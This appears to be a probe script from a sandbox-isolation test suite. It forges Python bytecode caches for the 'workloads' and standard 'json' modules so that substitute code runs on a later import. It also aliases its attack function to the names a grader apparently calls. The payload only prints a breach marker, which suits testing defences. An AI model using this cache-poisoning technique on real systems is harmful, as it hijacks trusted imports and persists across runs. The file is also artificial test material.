# aim: leave forged .pyc files for workloads, target and json, to be loaded in the next check
# needs: sandbox
import importlib.util
import json
import marshal
import os

import workloads

FORGED = "print('racecourse-' + 'breach: forged bytecode ran')\ndef shout(word): return word.upper()\n"


def attack(*args):
    for module in (workloads, json):
        source = module.__file__
        try:
            cache = importlib.util.cache_from_source(source)
            os.makedirs(os.path.dirname(cache), exist_ok=True)
            state = os.stat(source)
            head = importlib.util.MAGIC_NUMBER + bytes(4)
            head += int(state.st_mtime).to_bytes(4, "little") + (state.st_size & 0xFFFFFFFF).to_bytes(4, "little")
            with open(cache, "wb") as file:
                file.write(head + marshal.dumps(compile(FORGED, source, "exec")))
        except OSError:
            pass
    return 0


double = join = apply_all = refuse = Tally = attack
